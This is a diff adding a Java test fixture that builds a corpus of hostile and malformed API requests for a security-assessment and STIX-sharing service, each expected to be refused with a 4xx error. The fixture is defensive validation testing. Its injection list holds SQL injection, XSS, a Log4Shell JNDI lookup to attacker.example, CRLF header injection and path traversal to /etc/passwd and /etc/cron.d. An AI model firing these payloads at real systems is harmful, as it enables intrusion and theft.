@@ -1,0 +1,407 @@
+package io.kakunin.service;
+
+import io.kakunin.fixtures.Fixtures;
+
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.util.ArrayList;
+import java.util.Iterator;
+import java.util.List;
+import java.util.Map;
+
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
+import tools.jackson.databind.node.ArrayNode;
+import tools.jackson.databind.node.JsonNodeFactory;
+import tools.jackson.databind.node.ObjectNode;
+
+/**
+ * Hostile and malformed requests, generated from realistic ones: every field of a rich
+ * product-security request, a structured sharing case and a STIX bundle is given the wrong
+ * type, an out-of-range or malformed value, a control character, an injection string where the
+ * contract constrains the value, or a string over the parser's limit; plus malformed JSON,
+ * deep nesting, oversized bodies, broken STIX (dangling references, cycles), hostile query
+ * parameters, path segments and headers. Every one must be refused with a 4xx problem.
+ */
+final class HostileInputCorpus {
+
+    /** One request of the corpus. */
+    record Case(String name, String method, String path, String contentType, byte[] body, List<String> headers) {
+        @Override
+        public String toString() {
+            return name;
+        }
+    }
+
+    static final String ASSESSMENTS = "/v1/assessments";
+    static final String REVIEWS = "/v1/sharing-reviews";
+    static final List<String> INJECTIONS = List.of("' OR '1'='1' --", "\"; DROP TABLE assessment; --", "<script>alert(1)</script>",
+            "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "{{7*7}}", "%00%0d%0aSet-Cookie: x=y");
+    private static final JsonMapper JSON = JsonMapper.builder().build();
+    /** Longer than the parser's limit on one string (kakunin.limits.max-string-length). */
+    private static final String HUGE = "A".repeat(270_000);
+
+    private final List<Case> cases = new ArrayList<>();
+
+    private HostileInputCorpus() {
+    }
+
+    static List<Case> all() {
+        HostileInputCorpus corpus = new HostileInputCorpus();
+        corpus.fields("assessment", ASSESSMENTS, fixture("product-security/scenario-smart-lock-from-a-well-run-sme-is-compliant"));
+        corpus.fields("structured share", REVIEWS, fixture("information-sharing/is-7-victim-in-text-accounts-and-location-is-redacted-everywhere"));
+        corpus.fields("STIX share", REVIEWS, fixture("information-sharing/scenario-bundle-whose-sighting-names-the-victim-company-shares-after-redaction"));
+        corpus.malformedJson();
+        corpus.nesting();
+        corpus.stix();
+        corpus.queries();
+        corpus.paths();
+        corpus.headersAndMethods();
+        corpus.adminBodies();
+        return List.copyOf(corpus.cases);
+    }
+
+    private static ObjectNode fixture(String name) {
+        try {
+            return (ObjectNode) JSON.readTree(Files.readString(Fixtures.root().resolve(name + "/request.json")));
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private void post(String name, String path, String body, String... headers) {
+        cases.add(new Case(name, "POST", path, "application/json", body.getBytes(StandardCharsets.UTF_8), List.of(headers)));
+    }
+
+    private void post(String name, String path, JsonNode body) {
+        post(name, path, body.toString());
+    }
+
+    // ------------------------------------------------------------------ every field
+
+    /**
+     * Mutations of every leaf of a realistic request, each on its own copy, chosen by what the
+     * contract says the field is: an enum gets unknown values, a date impossible dates, a
+     * constrained string (pattern, enum, format) injection strings, a bounded one a string one
+     * character too long, a number values out of its range and of the wrong kind.
+     */
+    private void fields(String label, String path, ObjectNode request) {
+        String root = path.equals(ASSESSMENTS) ? "AssessmentRequest" : "SharingReviewRequest";
+        List<String> pointers = new ArrayList<>();
+        leaves(request, "", pointers);
+        for (String pointer : pointers) {
+            JsonNode value = request.at(pointer);
+            boolean inStix = pointer.startsWith("/stix/");
+            String field = pointer.substring(pointer.lastIndexOf('/') + 1);
+            JsonNode schema = inStix ? null : Contract.schemaAt(root, pointer);
+            if (value.isString()) {
+                String text = value.asString();
+                post(label + ": NUL in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode(text + "\u0000x")));
+                post(label + ": escape sequence in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("\u001b[2J" + text)));
+                if (inStix) {
+                    continue;
+                }
+                post(label + ": number for the string " + pointer, path, with(request, pointer, JsonNodeFactory.instance.numberNode(12345)));
+                post(label + ": boolean for the string " + pointer, path, with(request, pointer, JsonNodeFactory.instance.booleanNode(true)));
+                boolean isEnum = schema.has("enum");
+                String format = schema.path("format").asString("");
+                if (isEnum) {
+                    post(label + ": unknown value of " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode(text + "_OR_ELSE")));
+                    post(label + ": value of " + pointer + " in lower case", path, with(request, pointer, JsonNodeFactory.instance.stringNode(text.toLowerCase())));
+                }
+                if (format.equals("date")) {
+                    post(label + ": 30 February in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("2026-02-30")));
+                    post(label + ": a date without zeros in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("2026-1-5")));
+                }
+                if (format.equals("date-time")) {
+                    post(label + ": a time without offset in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("2026-11-18T02:10:00")));
+                    post(label + ": hour 25 in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("2026-11-18T25:10:00Z")));
+                }
+                if (isEnum || schema.has("pattern") || !format.isEmpty()) {
+                    for (String injection : INJECTIONS.subList(0, 4)) {
+                        post(label + ": injection " + injection + " in " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode(injection)));
+                    }
+                }
+                if (schema.has("maxLength")) {
+                    post(label + ": " + pointer + " one character over its limit", path,
+                            with(request, pointer, JsonNodeFactory.instance.stringNode("a".repeat(schema.path("maxLength").asInt() + 1))));
+                }
+            } else if (value.isNumber()) {
+                boolean boundedStix = inStix && List.of("confidence", "count", "number_observed").contains(field);
+                if (inStix && !boundedStix) {
+                    continue;
+                }
+                post(label + ": string for the number " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode(value.asString())));
+                post(label + ": 1e400 for " + pointer, path, raw(request, pointer, "1e400"));
+                post(label + ": 40 digits for " + pointer, path, raw(request, pointer, "1234567890123456789012345678901234567890"));
+                post(label + ": 200 digits for " + pointer, path, raw(request, pointer, "9".repeat(200)));
+                post(label + ": a fraction for " + pointer, path, raw(request, pointer, "1.5"));
+                if (schema != null && schema.has("minimum")) {
+                    post(label + ": " + pointer + " under its minimum", path, with(request, pointer,
+                            JsonNodeFactory.instance.numberNode(schema.path("minimum").asLong() - 1)));
+                }
+                if (schema != null && schema.has("maximum")) {
+                    post(label + ": " + pointer + " over its maximum", path, with(request, pointer,
+                            JsonNodeFactory.instance.numberNode(schema.path("maximum").asLong() + 1)));
+                }
+                if (boundedStix) {
+                    post(label + ": " + pointer + " out of STIX's range", path, with(request, pointer, JsonNodeFactory.instance.numberNode(-1)));
+                }
+            } else if (value.isBoolean() && !inStix) {
+                post(label + ": string for the boolean " + pointer, path, with(request, pointer, JsonNodeFactory.instance.stringNode("true")));
+                post(label + ": number for the boolean " + pointer, path, with(request, pointer, JsonNodeFactory.instance.numberNode(1)));
+            }
+        }
+        List<String> containers = new ArrayList<>();
+        containers(request, "", containers);
+        for (String pointer : containers) {
+            if (pointer.startsWith("/stix/") || pointer.equals("/stix")) {
+                continue;
+            }
+            JsonNode node = request.at(pointer);
+            if (node.isObject()) {
+                ObjectNode copy = request.deepCopy();
+                ((ObjectNode) copy.at(pointer)).put("injected" + "Field", "' OR 1=1");
+                post(label + ": unknown field in " + (pointer.isEmpty() ? "/" : pointer), path, copy);
+                if (!pointer.isEmpty()) {
+                    post(label + ": array for the object " + pointer, path, with(request, pointer, JsonNodeFactory.instance.arrayNode()));
+                }
+            } else if (node.isArray()) {
+                post(label + ": object for the array " + pointer, path, with(request, pointer, JsonNodeFactory.instance.objectNode()));
+                ArrayNode grown = JsonNodeFactory.instance.arrayNode();
+                for (int i = 0; i < 10_001; i++) {
+                    grown.add(node.isEmpty() ? JsonNodeFactory.instance.nullNode() : node.get(0).deepCopy());
+                }
+                if (grown.toString().length() < 900_000) {
+                    post(label + ": 10,001 elements in " + pointer, path, with(request, pointer, grown));
+                }
+            }
+        }
+        post(label + ": a string over the parser's limit", path, with(request, "/" + request.properties().iterator().next().getKey(),
+                JsonNodeFactory.instance.stringNode(HUGE)));
+    }
+
+    private static void leaves(JsonNode node, String at, List<String> out) {
+        if (node.isObject()) {
+            for (Map.Entry<String, JsonNode> e : node.properties()) {
+                leaves(e.getValue(), at + "/" + e.getKey().replace("~", "~0").replace("/", "~1"), out);
+            }
+        } else if (node.isArray()) {
+            for (int i = 0; i < node.size(); i++) {
+                leaves(node.get(i), at + "/" + i, out);
+            }
+        } else if (!node.isNull()) {
+            out.add(at);
+        }
+    }
+
+    private static void containers(JsonNode node, String at, List<String> out) {
+        if (node.isContainer()) {
+            out.add(at);
+            Iterator<Map.Entry<String, JsonNode>> fields = node.isObject() ? node.properties().iterator() : java.util.Collections.emptyIterator();
+            while (fields.hasNext()) {
+                Map.Entry<String, JsonNode> e = fields.next();
+                containers(e.getValue(), at + "/" + e.getKey(), out);
+            }
+            if (node.isArray() && !node.isEmpty()) {
+                containers(node.get(0), at + "/0", out);
+            }
+        }
+    }
+
+    private static ObjectNode with(ObjectNode request, String pointer, JsonNode value) {
+        ObjectNode copy = request.deepCopy();
+        String parent = pointer.substring(0, pointer.lastIndexOf('/'));
+        String last = pointer.substring(pointer.lastIndexOf('/') + 1).replace("~1", "/").replace("~0", "~");
+        JsonNode container = parent.isEmpty() ? copy : copy.at(parent);
+        if (container instanceof ObjectNode o) {
+            o.set(last, value);
+        } else if (container instanceof ArrayNode a) {
+            a.set(Integer.parseInt(last), value);
+        }
+        return copy;
+    }
+
+    /** A copy whose value at the pointer is replaced by raw JSON text (numbers Jackson's tree cannot hold). */
+    private static String raw(ObjectNode request, String pointer, String json) {
+        String marker = "\"__raw_marker__\"";
+        return with(request, pointer, JsonNodeFactory.instance.stringNode("__raw_marker__")).toString().replace(marker, json);
+    }
+
+    // ------------------------------------------------------------------ malformed JSON
+
+    private void malformedJson() {
+        String good = fixture("product-security/ps-4.2-shared-default-password-fails").toString();
+        for (int i = 1; i <= 12; i++) {
+            int cut = good.length() * i / 13;
+            post("truncated at " + cut + " of " + good.length() + " bytes", ASSESSMENTS, good.substring(0, cut));
+        }
+        String[][] broken = {
+                {"single quotes", "{'organization':{},'products':[{}]}"},
+                {"a trailing comma", "{\"organization\":{},\"products\":[{}],}"},
+                {"a comment", "{/* hi */\"organization\":{},\"products\":[{}]}"},
+                {"NaN", "{\"organization\":{\"monitoringIntervalDays\":NaN},\"products\":[{}]}"},
+                {"Infinity", "{\"organization\":{\"monitoringIntervalDays\":Infinity},\"products\":[{}]}"},
+                {"a leading zero", "{\"organization\":{\"monitoringIntervalDays\":007},\"products\":[{}]}"},
+                {"a plus sign", "{\"organization\":{\"monitoringIntervalDays\":+7},\"products\":[{}]}"},
+                {"a bare word", "{\"organization\":{\"id\":acme},\"products\":[{}]}"},
+                {"an unterminated string", "{\"organization\":{\"id\":\"acme},\"products\":[{}]}"},
+                {"a raw newline in a string", "{\"organization\":{\"id\":\"ac\nme\"},\"products\":[{}]}"},
+                {"a bad escape", "{\"organization\":{\"id\":\"\\x41\"},\"products\":[{}]}"},
+                {"a lone surrogate escape", "{\"organization\":{\"name\":\"\\ud800\"},\"products\":[{}]}"},
+                {"duplicate fields", "{\"organization\":{},\"products\":[{\"defaultPasswordPolicy\":\"SHARED\",\"defaultPasswordPolicy\":\"UNIQUE_PER_DEVICE\"}]}"},
+                {"two documents", "{\"organization\":{},\"products\":[{}]}{\"organization\":{},\"products\":[{}]}"},
+                {"garbage after the document", "{\"organization\":{},\"products\":[{}]} ;DROP TABLE assessment"},
+                {"a JSON string", "\"organization\""},
+                {"a JSON number", "42"},
+                {"JSON null", "null"},
+                {"an empty object", "{}"},
+                {"an empty body", ""},
+                {"whitespace only", "   \n  "},
+                {"XML", "<assessment><organization/></assessment>"},
+                {"a field name over the limit", "{\"" + "k".repeat(2000) + "\":1,\"organization\":{},\"products\":[{}]}"},
+        };
+        for (String[] b : broken) {
+            post("malformed JSON: " + b[0], ASSESSMENTS, b[1]);
+            post("malformed JSON in a share: " + b[0], REVIEWS, b[1].replace("organization", "sharer").replace("products", "recipients"));
+        }
+        cases.add(new Case("invalid UTF-8 bytes", "POST", ASSESSMENTS, "application/json",
+                new byte[] {'{', '"', 'o', 'r', 'g', 'a', 'n', 'i', 'z', 'a', 't', 'i', 'o', 'n', '"', ':', '{', '"', 'i', 'd', '"', ':', '"',
+                        (byte) 0xC3, (byte) 0x28, '"', '}', ',', '"', 'p', 'r', 'o', 'd', 'u', 'c', 't', 's', '"', ':', '[', '{', '}', ']', '}'},
+                List.of()));
+        post("a body over the size limit", ASSESSMENTS, "{\"organization\":{\"name\":\"" + "x".repeat(1_100_000) + "\"},\"products\":[{}]}");
+    }
+
+    private void nesting() {
+        post("arrays nested 200 deep in a STIX property", REVIEWS, "{\"sharer\":{},\"recipients\":[{}],\"stix\":{\"type\":\"bundle\",\"x\":"
+                + "[".repeat(200) + "]".repeat(200) + "}}");
+        post("objects nested 200 deep in a STIX property", REVIEWS, "{\"sharer\":{},\"recipients\":[{}],\"stix\":{\"type\":\"bundle\",\"x\":"
+                + "{\"a\":".repeat(200) + "1" + "}".repeat(200) + "}}");
+        post("arrays nested 100,000 deep", ASSESSMENTS, "[".repeat(100_000) + "]".repeat(100_000));
+        post("arrays nested 70 deep in a product list", ASSESSMENTS, "{\"organization\":{},\"products\":" + "[".repeat(70) + "]".repeat(70) + "}");
+    }
+
+    // ------------------------------------------------------------------ STIX
+
+    private void stix() {
+        ObjectNode request = fixture("information-sharing/scenario-bundle-whose-sighting-names-the-victim-company-shares-after-redaction");
+        ArrayNode objects = (ArrayNode) request.at("/stix/objects");
+        String first = objects.get(0).path("id").asString();
+        for (int i = 0; i < objects.size(); i++) {
+            JsonNode o = objects.get(i);
+            String type = o.path("type").asString();
+            ObjectNode dangling = request.deepCopy();
+            ((ObjectNode) dangling.at("/stix/objects/" + i)).put("created_by_ref", "identity--00000000-0000-4000-8000-000000000000");
+            post("STIX: dangling created_by_ref on " + type, REVIEWS, dangling);
+            ObjectNode self = request.deepCopy();
+            ((ObjectNode) self.at("/stix/objects/" + i)).putArray("object_refs").add(o.path("id").asString());
+            if (!"report".equals(type) && !"grouping".equals(type) && !"note".equals(type) && !"opinion".equals(type)) {
+                ((ObjectNode) self.at("/stix/objects/" + i)).put("sample_ref", o.path("id").asString());
+            }
+            post("STIX: " + type + " referring to itself", REVIEWS, self);
+            for (String required : List.of("type", "id", "spec_version", "created")) {
+                if (!"marking-definition".equals(type) || !required.equals("created")) {
+                    ObjectNode missing = request.deepCopy();
+                    ((ObjectNode) missing.at("/stix/objects/" + i)).remove(required);
+                    post("STIX: " + type + " without " + required, REVIEWS, missing);
+                }
+            }
+            ObjectNode badId = request.deepCopy();
+            ((ObjectNode) badId.at("/stix/objects/" + i)).put("id", type + "--not-a-uuid");
+            post("STIX: " + type + " with a malformed id", REVIEWS, badId);
+        }
+        String report = "{\"type\":\"report\",\"spec_version\":\"2.1\",\"id\":\"%s\",\"created\":\"2026-11-18T03:00:00.000Z\","
+                + "\"modified\":\"2026-11-18T03:00:00.000Z\",\"name\":\"r\",\"published\":\"2026-11-18T03:00:00Z\",\"object_refs\":[\"%s\",\"%s\"]}";
+        String r1 = "report--0c9e2e1c-0d7b-4d43-8a39-5f44c3a3e0a1";
+        String r2 = "report--1c9e2e1c-0d7b-4d43-8a39-5f44c3a3e0a2";
+        ObjectNode cycle = request.deepCopy();
+        ((ArrayNode) cycle.at("/stix/objects")).add(JSON.readTree(String.format(report, r1, first, r2)));
+        ((ArrayNode) cycle.at("/stix/objects")).add(JSON.readTree(String.format(report, r2, first, r1)));
+        post("STIX: reports containing each other", REVIEWS, cycle);
+        ObjectNode duplicate = request.deepCopy();
+        ((ArrayNode) duplicate.at("/stix/objects")).add(objects.get(0).deepCopy());
+        ObjectNode notBundle = request.deepCopy();
+        ((ObjectNode) notBundle.at("/stix")).put("type", "report");
+        post("STIX: not a bundle", REVIEWS, notBundle);
+        ObjectNode notObjects = request.deepCopy();
+        ((ObjectNode) notObjects.at("/stix")).put("objects", "everything");
+        post("STIX: objects is not a list", REVIEWS, notObjects);
+        ObjectNode scalarObject = request.deepCopy();
+        ((ArrayNode) scalarObject.at("/stix/objects")).add(42);
+        post("STIX: a number among the objects", REVIEWS, scalarObject);
+        ObjectNode badPattern = request.deepCopy();
+        for (JsonNode o : (ArrayNode) badPattern.at("/stix/objects")) {
+            if (o.has("pattern")) {
+                ((ObjectNode) o).put("pattern", "[ipv4-addr:value = '203.0.113.45'");
+            }
+        }
+        post("STIX: a malformed pattern", REVIEWS, badPattern);
+        ObjectNode both = request.deepCopy();
+        both.putArray("items").addObject().put("value", "203.0.113.45");
+        post("STIX and items at once", REVIEWS, both);
+        ObjectNode tooMany = request.deepCopy();
+        ArrayNode many = JsonNodeFactory.instance.arrayNode();
+        for (int i = 0; i < 10_001; i++) {
+            many.add(i);
+        }
+        ((ObjectNode) tooMany.at("/stix")).set("x_counts", many);
+        post("STIX: a custom array of 10,001 elements", REVIEWS, tooMany);
+    }
+
+    // ------------------------------------------------------------------ queries, paths, headers
+
+    private void queries() {
+        List<String> params = List.of("organizationId", "productId", "failedRecommendation", "rulesetRevision", "createdFrom", "createdTo",
+                "limit", "cursor", "outcome");
+        for (String param : params) {
+            for (String injection : INJECTIONS) {
+                String encoded = java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8);
+                cases.add(new Case("query " + param + "=" + injection, "GET", ASSESSMENTS + "?" + param + "=" + encoded, null, null, List.of()));
+            }
+        }
+        for (String[] q : new String[][] {{"limit", "0"}, {"limit", "201"}, {"limit", "-5"}, {"limit", "1e3"}, {"limit", "99999999999"},
+                {"createdFrom", "2026-13-01T00:00:00Z"}, {"createdTo", "yesterday"}, {"outcome", "compliant"}, {"cursor", "AAAA"},
+                {"decision", "SHARE_EVERYTHING"}, {"organizationId", ""}}) {
+            String path = (q[0].equals("decision") ? REVIEWS : ASSESSMENTS) + "?" + q[0] + "=" + q[1];
+            cases.add(new Case("query " + q[0] + "=" + q[1], "GET", path, null, null, List.of()));
+        }
+        cases.add(new Case("query limit given twice", "GET", ASSESSMENTS + "?limit=1&limit=x", null, null, List.of()));
+    }
+
+    private void paths() {
+        for (String injection : INJECTIONS) {
+            String encoded = java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8).replace("+", "%20");
+            cases.add(new Case("assessment id " + injection, "GET", ASSESSMENTS + "/" + encoded, null, null, List.of()));
+            cases.add(new Case("review id " + injection, "GET", REVIEWS + "/" + encoded, null, null, List.of()));
+            cases.add(new Case("recommendation id " + injection, "GET", "/v1/recommendations/" + encoded, null, null, List.of()));
+        }
+        cases.add(new Case("an unknown assessment", "GET", ASSESSMENTS + "/01936d3f-7a6c-7cc1-9a2e-3f1d2c4b5a69", null, null, List.of()));
+        cases.add(new Case("an encoded slash in an id", "GET", ASSESSMENTS + "/..%2F..%2Fetc%2Fpasswd", null, null, List.of()));
+    }
+
+    private void headersAndMethods() {
+        String good = fixture("product-security/ps-4.2-shared-default-password-fails").toString();
+        post("an Idempotency-Key of 201 characters", ASSESSMENTS, good, "Idempotency-Key", "k".repeat(201));
+        post("an Idempotency-Key with spaces", ASSESSMENTS, good, "Idempotency-Key", "a key with spaces");
+        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x")) {
+            cases.add(new Case("content type " + type, "POST", ASSESSMENTS, type, good.getBytes(StandardCharsets.UTF_8), List.of()));
+        }
+        cases.add(new Case("no content type", "POST", ASSESSMENTS, null, good.getBytes(StandardCharsets.UTF_8), List.of()));
+        for (String method : List.of("PUT", "PATCH", "DELETE")) {
+            cases.add(new Case(method + " on the assessments", method, ASSESSMENTS, "application/json", good.getBytes(StandardCharsets.UTF_8), List.of()));
+        }
+        cases.add(new Case("no credentials", "POST", ASSESSMENTS, "application/json", good.getBytes(StandardCharsets.UTF_8), List.of("X-API-Key", "")));
+    }
+
+    private void adminBodies() {
+        post("API key with a control character in its name", "/v1/api-keys", "{\"name\":\"ops\\u0007\",\"roles\":[\"AUDITOR\"]}");
+        post("API key without roles", "/v1/api-keys", "{\"name\":\"ops\",\"roles\":[]}");
+        post("API key with an unknown role", "/v1/api-keys", "{\"name\":\"ops\",\"roles\":[\"ROOT\"]}");
+        post("API key with an injected name", "/v1/api-keys", "{\"name\":\"" + "n".repeat(201) + "\",\"roles\":[\"AUDITOR\"]}");
+        post("validation of a path escaping the ruleset", "/v1/rulesets/validate", "{\"files\":[{\"path\":\"../../etc/passwd.drl\",\"content\":\"x\"}]}");
+        post("validation of an absolute path", "/v1/rulesets/validate", "{\"files\":[{\"path\":\"/etc/cron.d/x.drl\",\"content\":\"x\"}]}");
+        post("validation of bad base64", "/v1/rulesets/validate", "{\"files\":[{\"path\":\"a.drl\",\"content\":\"%%%\",\"encoding\":\"BASE64\"}]}");
+    }
+}
